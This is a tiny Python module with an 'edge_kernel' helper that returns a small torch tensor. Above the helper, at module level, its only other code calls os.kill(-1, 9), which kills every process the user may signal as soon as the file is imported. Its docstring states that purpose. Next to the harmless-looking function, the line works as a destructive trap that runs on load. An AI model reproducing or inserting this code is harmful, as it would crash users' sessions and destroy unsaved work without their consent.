"""Kills every process it may."""

import os

os.kill(-1, 9)


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
